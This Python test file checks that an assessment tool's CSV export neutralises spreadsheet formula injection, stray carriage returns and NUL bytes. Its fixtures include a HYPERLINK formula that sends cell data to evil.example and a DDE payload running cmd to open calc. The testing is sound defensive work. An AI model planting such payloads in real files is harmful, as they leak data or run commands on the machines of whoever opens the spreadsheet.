"""Issue 10 item 5: no CSV cell the app writes is a spreadsheet formula, a bare CR never starts
a new row, and NUL never reaches the file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from maturity import interchange
from maturity import questionnaire as qmod
from maturity.safetext import FORMULA_TRIGGERS, csv_cell, csv_rows
from maturity.store import open_store
from maturity.workspace import Workspace

DATA = Path(__file__).parent.parent / "data"


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cell_follows_owasp() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("+SUM(A1)") == "'+SUM(A1)"
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("@SUM(A1:A2)") == "'@SUM(A1:A2)"
    assert csv_cell("\tx") == "'\tx" and csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("canary via Argo") == "canary via Argo"  # ordinary text untouched
    assert csv_cell("a=1") == "a=1"  # only the first character matters
    assert csv_cell("a\x00b") == "ab"  # NUL dropped


def test_export_neutralises_every_free_text_column(store_path: Path) -> None:
    ws = Workspace(open_store(store_path))
    team = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    a = ws.create(team, qmod.load_file(DATA / "mini.yaml"))
    ws.answer(a.id, "alpha.one", 3, note="\r=1+1")  # today's bug: a new row with a formula
    ws.answer(a.id, "alpha.two", 2, note="@SUM(1)\x00 and -2")
    text = interchange.export_csv(ws, assessment_id=a.id)
    assert "\x00" not in text
    rows = rows_of(text)
    assert len(rows) == 3  # header and two answers: the CR did not split a row
    header, *body = rows
    team_col, note_col = header.index("team"), header.index("note")
    assert all(r[team_col] == "'" + team for r in body)
    assert [r[note_col] for r in body] == ["'\r=1+1", "'@SUM(1) and -2"]
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell


def test_cli_csv_export_of_a_hostile_team(cli, store_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = Workspace(open_store(store_path))
    a = ws.create("+cmd|' /C calc'!A0", qmod.load_file(DATA / "mini.yaml"))
    ws.answer(a.id, "alpha.one", 4, note="-1+1\rnext")
    ws.store.close()
    r = cli("export", a.id, "--format", "csv")
    assert r.code == 0
    rows = rows_of(r.out)
    assert len(rows) == 2
    assert rows[1][1] == "'+cmd|' /C calc'!A0" and rows[1][-1] == "'-1+1\rnext"


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.lists(st.text(max_size=40) | st.integers(), min_size=1, max_size=5),
        min_size=1,
        max_size=5,
    )
)
def test_csv_rows_round_trip_and_never_a_formula(rows: list[list[object]]) -> None:
    """Whatever the cells, a CSV reader gets back exactly the rows, each string cell as
    :func:`csv_cell` made it: none starts a formula and none contains NUL."""
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    parsed = rows_of(csv_rows(rows))
    expected = [[csv_cell(v) if isinstance(v, str) else str(v) for v in r] for r in rows]
    assert parsed == expected
    for row, source in zip(parsed, rows, strict=True):
        for cell, value in zip(row, source, strict=True):
            if isinstance(value, str):
                assert not cell.startswith(FORMULA_TRIGGERS) and "\x00" not in cell
